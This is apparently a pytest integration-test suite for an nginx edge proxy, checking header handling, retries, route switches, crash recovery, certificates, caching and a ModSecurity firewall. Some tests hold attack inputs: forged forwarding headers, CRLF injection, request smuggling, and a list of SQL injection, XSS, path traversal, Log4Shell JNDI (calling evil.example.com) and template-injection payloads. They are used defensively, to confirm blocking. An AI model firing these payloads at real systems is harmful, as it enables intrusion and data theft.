"""What nginx does with a request, a stream and a change of routes."""

import asyncio
import contextlib
import json
import os
import shutil
import signal
import ssl
from bisect import bisect_right
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest
from cryptography import x509
from tests.edge_stage import App, RealEdge, app, free_port, why_not

from leeward.edges.embedded import server
from leeward.errors import Unavailable
from leeward.host.supervision import orphans as orphans_of
from leeward.model.route import BOUNDS_MS, Route

pytestmark = pytest.mark.skipif(bool(why_not()), reason=why_not() or "-")
HOST = "shop.lee.localhost"


@pytest.fixture
async def real() -> AsyncIterator[RealEdge]:
    found = RealEdge()
    try:
        await found.start()
        await found.edge.sync([], [])
        yield found
    finally:
        await found.remove()


@pytest.fixture
async def a() -> AsyncIterator[App]:
    async with app("a") as found:
        yield found


@pytest.fixture
async def b() -> AsyncIterator[App]:
    async with app("b") as found:
        yield found


def shop(*peers: str, **more: object) -> Route:
    return replace(Route("shop", (HOST,), peers), **more)  # type: ignore[arg-type]


async def until(true: object, timeout_s: float = 10.0) -> None:
    """Wait for a condition."""
    assert callable(true)
    async with asyncio.timeout(timeout_s):
        while True:
            found = true()
            if asyncio.iscoroutine(found):
                found = await found
            if found:
                return
            await asyncio.sleep(0.02)


# --- what an app is told -----------------------------------------------------------------------------------------


async def test_an_app_learns_the_clients_address_from_the_edge_and_not_from_the_client(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))

    answer = await real.ask(
        HOST,
        X_Forwarded_For="6.6.6.6",
        X_Forwarded_Proto="ftp",
        X_Forwarded_Host="evil.example.com",
        X_Real_IP="6.6.6.6",
        X_Request_Id="forged",
        Forwarded="for=6.6.6.6",
        Proxy="http://evil.example.com",
    )

    seen = answer.seen
    assert seen["x-forwarded-for"] == "127.0.0.1"
    assert seen["x-real-ip"] == "127.0.0.1"
    assert seen["x-forwarded-proto"] == "https"
    assert seen["x-forwarded-host"] == HOST
    assert seen["host"] == HOST
    assert len(seen["x-request-id"]) == 32
    assert answer.headers["x-request-id"] == seen["x-request-id"]
    assert "forwarded" not in seen and "proxy" not in seen


async def test_a_host_keeps_its_port_on_the_way_to_the_app(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    wire = await real.open(HOST)

    answer = await wire.ask("Shop.Lee.Localhost.:8443")

    assert answer.seen["host"] == "Shop.Lee.Localhost.:8443"
    await wire.close()


async def test_only_websockets_are_upgraded(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))

    answer = await real.ask(HOST, Connection="Upgrade, HTTP2-Settings", Upgrade="h2c", HTTP2_Settings="AAA")

    assert "upgrade" not in answer.seen
    assert answer.seen.get("connection", "close") == "close"


# --- what the edge answers by itself ------------------------------------------------------------------------------


async def test_an_unknown_host_is_a_page(real: RealEdge) -> None:
    for host in ("nobody.lee.localhost", "*.lee.localhost", "=shop"):
        answer = await real.ask(host, secure=False)

        assert answer.status == 404
        assert b"No such app" in answer.body


async def test_an_app_without_instances_is_a_page_that_says_when_to_come_back(real: RealEdge) -> None:
    await real.edge.put(shop())

    answer = await real.ask(HOST)

    assert answer.status == 503
    assert int(answer.headers["retry-after"]) > 0
    assert b"not running" in answer.body


async def test_an_app_whose_instances_all_fail_is_a_page(real: RealEdge) -> None:
    await real.edge.put(shop(f"127.0.0.1:{free_port()}", f"127.0.0.1:{free_port()}"))

    answer = await real.ask(HOST)

    assert answer.status == 502
    assert b"did not answer" in answer.body
    assert (await real.edge.traffic())["shop"].failed == 1


async def test_what_an_app_answers_is_not_replaced(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))

    for status in (404, 502, 503):
        assert (await real.ask(HOST, f"/status/{status}")).json["name"] == "a"


async def test_plain_http_is_sent_to_https(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))

    answer = await real.ask(HOST, "/a?b=%0d%0aSet-Cookie:%20x=1", secure=False)

    assert answer.status == 308
    assert answer.headers["location"] == (f"https://{HOST}:{real.settings.https_port}/a?b=%0d%0aSet-Cookie:%20x=1")
    assert "set-cookie" not in answer.headers


async def test_plain_http_is_served_where_the_app_wants_it(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer, https_only=False))

    answer = await real.ask(HOST, secure=False)

    assert answer.seen["x-forwarded-proto"] == "http"


async def test_challenges_for_certificates_are_served_over_plain_http(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    folder = real.home / "edge" / "acme" / ".well-known" / "acme-challenge"
    (folder / "token").write_text("proof")

    answer = await real.ask(HOST, "/.well-known/acme-challenge/token", secure=False)

    assert (answer.status, answer.body) == (200, b"proof")


async def test_a_header_with_line_breaks_reaches_nobody(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    wire = await real.open(HOST)
    wire.writer.write(f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-A: 1\rX-Forwarded-For: 6.6.6.6\r\n\r\n".encode())
    wire.writer.write(f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-A: 1\r\n X-Forwarded-For: 6.6.6.6\r\n\r\n".encode())

    answer = await wire.answer()

    assert answer.status == 400
    assert a.asked == []
    await wire.close()


async def test_a_request_whose_length_is_ambiguous_reaches_nobody(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    wire = await real.open(HOST)
    wire.writer.write(
        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()
    )

    assert (await wire.answer()).status == 400
    assert a.asked == []
    await wire.close()


async def test_an_app_cannot_have_the_edge_send_something_else(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))

    answer = await real.ask(HOST, X_Answer="X-Accel-Redirect: @failed")

    assert answer.json["name"] == "a"


async def test_the_console_is_the_control_planes_socket(real: RealEdge) -> None:
    console = f"console.{real.settings.domain}"
    away = await real.ask(console)
    redirect = await real.ask(console, "/x", secure=False)

    async def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        body = b"spoofed" if "6.6.6.6" in head else b"console"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nContent-Type: text/plain\r\n\r\n" + body)
        await writer.drain()
        writer.close()

    listener = await asyncio.start_unix_server(accept, real.settings.api_socket)
    real.settings.api_socket.chmod(0o666)
    try:
        answer = await real.ask(console, X_Forwarded_For="6.6.6.6")
    finally:
        listener.close()

    assert away.status == 503
    assert b"apps go on" in away.body
    assert (redirect.status, redirect.headers["location"]) == (308, f"{real.settings.console_url}/x")
    assert (answer.status, answer.body) == (200, b"console")


# --- peers that fail ----------------------------------------------------------------------------------------------


async def test_a_dead_peer_is_stepped_over(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(f"127.0.0.1:{free_port()}", a.peer))

    answers = [await real.ask(HOST, method=method) for method in ("GET", "POST") for _ in range(8)]

    assert [answer.status for answer in answers] == [200] * 16


async def test_a_request_that_reached_an_app_is_repeated_only_if_it_is_idempotent(
    real: RealEdge, a: App, b: App
) -> None:
    await real.edge.put(shop(a.peer, b.peer))

    got = await real.ask(HOST, "/break")
    posted = await real.ask(HOST, "/break", method="POST", body=b"once")

    assert (got.status, posted.status) == (502, 502)
    assert len([line for line in a.asked + b.asked if line.startswith("GET")]) == 2
    assert len([line for line in a.asked + b.asked if line.startswith("POST")]) == 1


async def test_an_instance_that_closes_idle_connections_costs_no_request(real: RealEdge) -> None:
    async with app("a") as first:
        await real.edge.put(shop(first.peer))
        port = int(first.peer.rpartition(":")[2])
        assert (await real.ask(HOST)).status == 200
        await first.stop()
        async with app("a", port):
            assert (await real.ask(HOST)).status == 200


# --- switches -----------------------------------------------------------------------------------------------------


class Load:
    """Clients that go on while routes change; every failure is kept."""

    def __init__(self, real: RealEdge) -> None:
        self.real = real
        self.ended = asyncio.Event()
        self.failures: list[str] = []
        self.done = 0

    async def kept_alive(self) -> None:
        wire = await self.real.open(HOST)
        while not self.ended.is_set():
            self.note(await wire.ask(HOST))
        await wire.close()

    async def fresh(self) -> None:
        while not self.ended.is_set():
            self.note(await self.real.ask(HOST))

    async def upload(self) -> None:
        while not self.ended.is_set():
            wire = await self.real.open(HOST)
            wire.send_head(HOST, "/upload", "POST", Content_Length="50000")
            for _ in range(10):
                wire.writer.write(b"x" * 5000)
                await wire.writer.drain()
                await asyncio.sleep(0.05)
            answer = await wire.answer()
            self.note(answer)
            if answer.status == 200 and answer.json["size"] != 50000:
                self.failures.append("upload was cut")
            await wire.close()

    async def websocket(self) -> None:
        wire = await self.real.open(HOST)
        wire.send_head(HOST, "/ws", Connection="Upgrade", Upgrade="websocket")
        assert (await wire.head()).status == 101
        names = set()
        while not self.ended.is_set():
            wire.writer.write(b"ping\n")
            text = await wire.reader.readline()
            names.add(text.split(b" ")[0])
            await asyncio.sleep(0.02)
        if names not in ({b"a"}, {b"b"}):
            self.failures.append(f"websocket heard {names}")
        self.done += 1
        await wire.close()

    async def events(self) -> None:
        wire = await self.real.open(HOST)
        wire.send_head(HOST, "/events", Accept="text/event-stream")
        assert (await wire.head()).status == 200
        while not self.ended.is_set():
            if not await wire.reader.readline():
                self.failures.append("event stream ended")
                return
            self.done += 1
        await wire.close()

    def note(self, answer: object) -> None:
        self.done += 1
        status = getattr(answer, "status", 0)
        if status != 200:
            self.failures.append(str(status))


async def run(load: Load, change: object) -> None:
    """All clients at once, until `change` is over."""
    kinds = [load.kept_alive] * 6 + [load.fresh] * 2 + [load.upload] * 4 + [load.websocket] * 4 + [load.events] * 4
    async with asyncio.TaskGroup() as group:
        for kind in kinds:
            group.create_task(kind())
        assert callable(change)
        await change()
        load.ended.set()


async def test_two_hundred_switches_drop_nothing(real: RealEdge, a: App, b: App) -> None:
    load = Load(real)
    await real.edge.put(shop(a.peer))

    async def switch() -> None:
        for turn in range(200):
            await real.edge.put(shop((b, a)[turn % 2].peer))
            await asyncio.sleep(0.02)

    await run(load, switch)

    assert load.failures == []
    assert load.done > 1000
    traffic = (await real.edge.traffic())["shop"]
    assert traffic.failed == 0
    assert (traffic.streams_seen, traffic.dropped) == (8, 0)


async def test_a_slow_upload_ends_on_the_route_that_it_began_with(real: RealEdge, a: App, b: App) -> None:
    for firewall in ("off", "block"):
        load = Load(real)
        await real.edge.put(shop(a.peer, firewall=firewall))

        async def switch(firewall: str = firewall) -> None:
            for turn in range(75):
                await real.edge.put(shop((b, a)[turn % 2].peer, firewall=firewall))
                await asyncio.sleep(0.02)

        async with asyncio.TaskGroup() as group:
            for _ in range(12):
                group.create_task(load.upload())
            await switch()
            load.ended.set()

        assert load.failures == []
        assert load.done >= 12


@pytest.mark.parametrize("firewall", ["off", "block"])
async def test_a_request_that_began_before_its_app_was_dropped_ends_well(real: RealEdge, a: App, firewall: str) -> None:
    await real.edge.put(shop(a.peer, firewall=firewall))
    upload = await real.open(HOST)
    upload.send_head(HOST, "/upload", "POST", Content_Length="10", User_Agent="test", Accept="*/*")
    upload.writer.write(b"12345")
    slow = asyncio.create_task(real.ask(HOST, "/slow", User_Agent="test", Accept="*/*"))
    await until(lambda: "GET /slow" in a.asked)

    await real.edge.drop("shop")
    upload.writer.write(b"12345")

    assert (await upload.answer()).json["size"] == 10
    assert (await slow).status == 200
    await upload.close()


# --- streams ------------------------------------------------------------------------------------------------------


async def test_open_streams_are_counted_by_peer(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    wire, events = await real.open(HOST), await real.open(HOST)
    wire.send_head(HOST, "/ws", Connection="Upgrade", Upgrade="websocket")
    events.send_head(HOST, "/events")
    await wire.head()
    await events.head()

    open_now = (await real.edge.traffic())["shop"]
    await wire.close()
    await events.close()

    assert open_now.streams == ((a.peer, 2),)
    assert open_now.streams_seen == 2

    async def none_is_open() -> bool:
        return (await real.edge.traffic())["shop"].streams == ()

    await until(none_is_open)
    assert (await real.edge.traffic())["shop"].dropped == 0


async def test_streams_that_an_instance_took_down_with_it_are_counted_as_dropped(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    wire = await real.open(HOST)
    wire.send_head(HOST, "/ws", Connection="Upgrade", Upgrade="websocket")
    await wire.head()

    await a.stop()

    async def one_is_dropped() -> bool:
        return (await real.edge.traffic())["shop"].dropped == 1

    await until(one_is_dropped)
    await wire.close()


async def test_events_come_as_they_are_sent_also_compressed_and_to_a_post(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer, cache="all"))
    wire = await real.open(HOST)
    wire.send_head(HOST, "/events", "POST", Accept_Encoding="br, gzip", Content_Length="0")
    await wire.head()

    async with asyncio.timeout(1):
        await wire.reader.readuntil(b"data: a")
    await wire.close()


# --- crashes ------------------------------------------------------------------------------------------------------


async def test_a_killed_worker_is_replaced_and_knows_all_routes(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    assert [(await real.ask(HOST)).status for _ in range(10)] == [200] * 10
    before = real.workers()
    counted = (await real.edge.traffic())["shop"].requests

    for pid in before:
        os.kill(pid, signal.SIGKILL)

    await until(lambda: not set(before) & set(real.workers()))
    assert [(await real.ask(HOST)).status for _ in range(10)] == [200] * 10
    assert (await real.edge.traffic())["shop"].requests == counted + 10


async def test_streams_of_a_killed_worker_are_counted_as_dropped(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    wire = await real.open(HOST)
    wire.send_head(HOST, "/ws", Connection="Upgrade", Upgrade="websocket")
    await wire.head()
    assert (await real.edge.traffic())["shop"].streams == ((a.peer, 1),)

    for pid in real.workers():
        os.kill(pid, signal.SIGKILL)

    async def one_is_dropped() -> bool:
        with contextlib.suppress(Unavailable):
            traffic = (await real.edge.traffic())["shop"]
            return (traffic.streams, traffic.dropped) == ((), 1)
        return False

    await until(one_is_dropped)
    await wire.close()


async def test_a_killed_master_is_followed_by_one_that_serves_all_with_no_request_lost(
    real: RealEdge, a: App, b: App
) -> None:
    await real.edge.put(shop(a.peer))
    await real.edge.put(Route("gone", ("gone.lee.localhost",), (a.peer,)))
    await real.edge.drop("gone")
    load = Load(real)
    orphans = real.workers()

    async def kill() -> None:
        await asyncio.sleep(0.3)
        await real.kill_master()
        await asyncio.sleep(0.3)
        await real.start()
        await until(lambda: not set(orphans) & set(real.workers()))
        await asyncio.sleep(0.3)

    async with asyncio.TaskGroup() as group:
        for client in (load.fresh, load.fresh, load.websocket):
            group.create_task(client())
        await kill()
        load.ended.set()

    assert load.failures == []
    assert (await real.ask("gone.lee.localhost")).status == 404
    await until(lambda: not any(Path(f"/proc/{pid}/cmdline").is_file() and alive(pid) for pid in orphans), 15)


async def test_what_looked_after_the_cache_of_a_killed_master_goes_and_that_of_another_edge_stays(
    real: RealEdge,
) -> None:
    other = RealEdge()
    try:
        await other.start()
        await until(lambda: real.helpers() and other.helpers())
        orphans, others = real.helpers(), other.helpers()
        await real.kill_master()
        await other.kill_master()

        await real.start()

        await until(lambda: not any(alive(pid) for pid in orphans), 15)
        assert real.helpers()
        # Nginx's own loader ends a minute after its start.
        assert any(alive(pid) for pid in others)
        await other.start()
        await until(lambda: not any(alive(pid) for pid in others), 15)
    finally:
        await other.remove()


async def test_lee_finds_what_a_killed_edge_left_also_after_its_workers_have_gone(real: RealEdge) -> None:
    await until(lambda: real.helpers())
    before = real.helpers()
    await real.kill_master()
    for pid in real.workers():
        os.kill(pid, signal.SIGKILL)

    found = {pid for pid, _ in orphans_of(real.settings, ())}

    assert {pid for pid in before if alive(pid)} <= found


def alive(pid: int) -> bool:
    """Whether a process runs; where nobody reaps, the dead stay in the list."""
    with contextlib.suppress(FileNotFoundError):
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    return False


async def test_a_started_edge_serves_what_it_was_told_before_with_no_agent(real: RealEdge, a: App) -> None:
    await real.edge.put(Route("www", ("www.example.com",), (a.peer,)))
    await real.edge.certify(["www.example.com"])
    # The machine went down in the middle of a line.
    with (real.home / "edge" / "snapshot").open("a") as snapshot:
        snapshot.write("route\twww\t0\ts\t0\t1\t127.0.0.1:1\tww")
    await real.stop()
    await real.start()

    assert (await real.ask("www.example.com")).status == 200
    assert await certificate_names(real, "www.example.com") == ["www.example.com"]


async def test_an_edge_that_was_never_told_anything_says_that_it_starts() -> None:
    real = RealEdge()
    try:
        await real.start()
        answer = await real.ask(HOST)
    finally:
        await real.remove()

    assert answer.status == 503
    assert b"starting" in answer.body


# --- certificates -------------------------------------------------------------------------------------------------


async def certificate_names(real: RealEdge, name: str) -> list[str]:
    wire = await real.open(name)
    der = wire.writer.get_extra_info("ssl_object").getpeercert(binary_form=True)
    await wire.close()
    found = x509.load_der_x509_certificate(der).extensions.get_extension_for_class(x509.SubjectAlternativeName)
    return found.value.get_values_for_type(x509.DNSName)


async def test_a_custom_domain_has_a_certificate_of_its_own(real: RealEdge, a: App) -> None:
    await real.edge.put(Route("www", ("www.example.com",), (a.peer,)))

    await real.edge.certify(["www.example.com"])

    assert await certificate_names(real, "www.example.com") == ["www.example.com"]
    assert await certificate_names(real, HOST) == ["*.lee.localhost", "lee.localhost"]


async def test_a_client_that_trusts_the_root_believes_the_platforms_domain_and_nothing_else(
    real: RealEdge, a: App
) -> None:
    await real.edge.put(Route("www", ("www.example.com", HOST), (a.peer,)))
    await real.edge.certify(["www.example.com"])
    context = ssl.create_default_context(cafile=str(server.ca_file(real.settings)))

    async def open_as(name: str) -> None:
        _, writer = await asyncio.open_connection(
            "127.0.0.1", real.settings.https_port, ssl=context, server_hostname=name
        )
        writer.close()

    await open_as(HOST)
    with pytest.raises(ssl.SSLCertVerificationError):
        await open_as("www.example.com")


async def test_keys_are_for_root_only(real: RealEdge) -> None:
    await real.edge.certify(["www.example.com"])

    private = [real.home / "keys", real.home / "edge" / "snapshot", real.home / "run" / "edge"]
    private += (real.home / "keys").rglob("*.key")

    assert all(path.stat().st_mode & 0o077 == 0 for path in private)
    assert len(private) > 5


# --- limits, cache, firewall --------------------------------------------------------------------------------------


async def test_a_client_that_asks_too_often_is_turned_away_and_others_are_not(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer, rate=5, rate_window_s=60, https_only=False))
    one = await real.open()
    other = await real.open(source="127.0.0.2")

    mine = [(await one.ask(HOST)).status for _ in range(8)]
    last = await one.ask(HOST)
    theirs = [(await other.ask(HOST)).status for _ in range(5)]

    assert mine == [200] * 5 + [429] * 3
    assert last.headers["retry-after"] == "60"
    assert theirs == [200] * 5
    assert len(a.asked) == 10
    for wire in (one, other):
        await wire.close()


async def test_assets_are_cached_until_the_generation_changes(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer, cache="assets", generation=1))
    css = {"X_Answer": "Content-Type: text/css"}

    states = [(await real.ask(HOST, "/app.css", **css)).headers["x-cache"] for _ in range(2)]
    await real.edge.put(shop(a.peer, cache="assets", generation=2))
    states.append((await real.ask(HOST, "/app.css", **css)).headers["x-cache"])

    assert states == ["MISS", "HIT", "MISS"]


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        ("/account/page.css", {"X_Answer": "Content-Type: text/html"}),
        ("/app.css", {"X_Answer": "Content-Type: text/css|Set-Cookie: a=1"}),
        ("/app.css", {"X_Answer": "Content-Type: text/css", "Authorization": "Bearer x"}),
        ("/app.css", {"X_Answer": "Content-Type: text/css|Cache-Control: private"}),
        ("/page", {"X_Answer": "Content-Type: text/css"}),
    ],
)
async def test_what_may_be_somebodys_own_is_not_cached(
    real: RealEdge, a: App, path: str, headers: dict[str, str]
) -> None:
    await real.edge.put(shop(a.peer, cache="assets"))

    for _ in range(2):
        await real.ask(HOST, path, **headers)

    assert len(a.asked) == 2


async def test_pages_are_cached_as_long_as_the_app_says(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer, cache="all"))

    for _ in range(3):
        await real.ask(HOST, "/page", X_Answer="Cache-Control: public, max-age=60")
        await real.ask(HOST, "/other")
        await real.ask(HOST, "/page", "POST")

    assert a.asked.count("GET /page") == 1
    assert a.asked.count("GET /other") == 3
    assert a.asked.count("POST /page") == 3


async def test_requests_that_cannot_be_cached_do_not_wait_for_each_other(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer, cache="all"))
    began = asyncio.get_running_loop().time()

    await asyncio.gather(*(real.ask(HOST, "/slow") for _ in range(10)))

    assert asyncio.get_running_loop().time() - began < 2


async def test_text_is_compressed(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    long = "x" * 2000

    answers = [await real.ask(HOST, f"/{long}", Accept_Encoding=kind) for kind in ("gzip", "br", "identity")]

    assert [answer.headers.get("content-encoding") for answer in answers] == ["gzip", "br", None]
    assert len(answers[0].body) < 1000


needs_firewall = pytest.mark.skipif(
    not why_not() and not server.machine().firewall, reason="ModSecurity or its Core Rule Set is not installed"
)
ATTACKS = [
    ("/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20", {}),
    ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}),
    ("/?file=../../../../etc/passwd", {}),
    ("/", {"User_Agent": "${jndi:ldap://evil.example.com/a}"}),
    ("/?name=%7B%7B7*7%7D%7D", {}),
]


@needs_firewall
@pytest.mark.parametrize(("path", "headers"), ATTACKS)
async def test_a_firewall_that_blocks_keeps_an_attack_from_the_app(
    real: RealEdge, a: App, path: str, headers: dict[str, str]
) -> None:
    await real.edge.put(shop(a.peer, firewall="block"))
    headers = {"User_Agent": "test", "Accept": "*/*", **headers}

    attacked = await real.ask(HOST, path, **headers)
    harmless = await real.ask(HOST, "/?q=shoes", User_Agent="test", Accept="*/*")

    assert (attacked.status, harmless.status) == (403, 200)
    assert a.asked == ["GET /?q=shoes"]


@needs_firewall
async def test_a_firewall_that_detects_writes_to_the_log_and_lets_through(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer, firewall="detect"))

    answer = await real.ask(HOST, ATTACKS[0][0], User_Agent="test", Accept="*/*")

    assert answer.status == 200
    assert "ModSecurity" in real.log.read_text().partition("rules loaded")[2]
    assert "942" in real.log.read_text()


async def test_an_app_without_a_firewall_gets_everything(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))

    for path, headers in ATTACKS:
        assert (await real.ask(HOST, path, **headers)).status == 200


async def test_a_change_is_live_in_ten_milliseconds_among_a_thousand_routes(real: RealEdge, a: App) -> None:
    routes = [Route(f"app{n}", (f"app{n}.lee.localhost",), (a.peer,)) for n in range(1000)]
    await real.edge.sync(routes, [])
    clock = asyncio.get_running_loop().time
    times = []
    for turn in range(50):
        began = clock()
        await real.edge.put(replace(routes[turn], generation=turn + 1))
        times.append(clock() - began)

    assert sorted(times)[25] < 0.01


async def test_nginx_counts_times_in_the_buckets_of_the_model(tmp_path: Path) -> None:
    result = tmp_path / "buckets"
    here = server.machine()
    config = tmp_path / "nginx.conf"
    config.write_text(
        "".join(f"load_module {here.modules_dir / name};\n" for name in here.modules if "ndk" in name or "lua" in name)
        + f"error_log stderr; pid {tmp_path}/pid; events {{}}\n"
        + f'http {{ access_log off; lua_package_path "{here.lua_dir}/?.lua;;"; lua_shared_dict stats 1m;\n'
        + "lua_shared_dict routes 1m; lua_shared_dict certs 1m; lua_shared_dict meta 1m;\n"
        + f"""init_by_lua_block {{
            local bucket_of, file = require("leeward.count").bucket_of, io.open("{result}", "w")
            for ms = 0, 99999 do file:write(bucket_of[ms], " ") end
            file:close()
            os.exit(0)
        }} }}"""
    )

    process = await asyncio.create_subprocess_exec(server.nginx(), "-p", str(tmp_path), "-c", str(config))

    assert await process.wait() == 0
    last = len(BOUNDS_MS) - 1
    assert [int(text) for text in result.read_text().split()] == [
        min(bisect_right(BOUNDS_MS, ms), last) for ms in range(100_000)
    ]


async def test_http2_reaches_the_same_apps(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(a.peer))
    port = real.settings.https_port
    curl = shutil.which("curl")
    if curl is None:
        pytest.skip("curl is not installed")

    process = await asyncio.create_subprocess_exec(
        *(curl, "-s", "--http2", "--cacert", str(server.ca_file(real.settings)), "-w", "\n%{http_version}"),
        *("--resolve", f"{HOST}:{port}:127.0.0.1", "--data", "x=1", f"https://{HOST}:{port}/form"),
        stdout=asyncio.subprocess.PIPE,
    )
    body, _, version = (await process.communicate())[0].decode().rpartition("\n")

    assert version == "2"
    assert json.loads(body)["headers"]["host"] == f"{HOST}:{port}"
    assert a.asked == ["POST /form"]


# --- sleep ------------------------------------------------------------------------------------------------


async def waited_for(real: RealEdge) -> None:
    """Until the edge says that requests wait for the app."""
    async with asyncio.timeout(20):
        while await real.edge.waiting() != {"shop"}:
            pass


async def test_requests_for_an_app_that_sleeps_are_held_and_all_answered_once_it_is_awake(
    real: RealEdge, a: App
) -> None:
    await real.edge.put(shop(wakes=True))
    asking = [asyncio.create_task(real.ask(HOST, f"/{number}", "POST", b"x" * 1000)) for number in range(12)]
    await waited_for(real)

    await real.edge.put(shop(a.peer, wakes=True))

    answers = await asyncio.gather(*asking)
    assert [answer.status for answer in answers] == [200] * 12
    assert [answer.json["size"] for answer in answers] == [1000] * 12
    traffic = (await real.edge.traffic())["shop"]
    assert (traffic.requests, traffic.failed) == (12, 0)
    assert await real.edge.waiting() == frozenset()


async def test_a_websocket_wakes_an_app_as_a_request_does(real: RealEdge, a: App) -> None:
    await real.edge.put(shop(wakes=True))
    wire = await real.open(HOST)
    wire.send_head(HOST, "/ws", Upgrade="websocket", Connection="Upgrade")
    await waited_for(real)

    await real.edge.put(shop(a.peer, wakes=True))

    assert (await wire.head()).status == 101
    await wire.close()


async def test_what_waits_too_long_is_told_when_to_come_again() -> None:
    real = RealEdge(wake_s=1.0)
    try:
        await real.start()
        await real.edge.sync([shop(wakes=True)], [])

        answers = await asyncio.gather(*(real.ask(HOST) for _ in range(5)))

        assert {(answer.status, answer.headers["retry-after"]) for answer in answers} == {(503, "5")}
        assert b"asleep" in answers[0].body
    finally:
        await real.remove()


async def test_an_app_that_is_dropped_while_requests_wait_for_it_lets_them_go(real: RealEdge) -> None:
    await real.edge.put(shop(wakes=True))
    asking = asyncio.create_task(real.ask(HOST))
    await waited_for(real)

    await real.edge.drop("shop")

    assert (await asking).status == 503
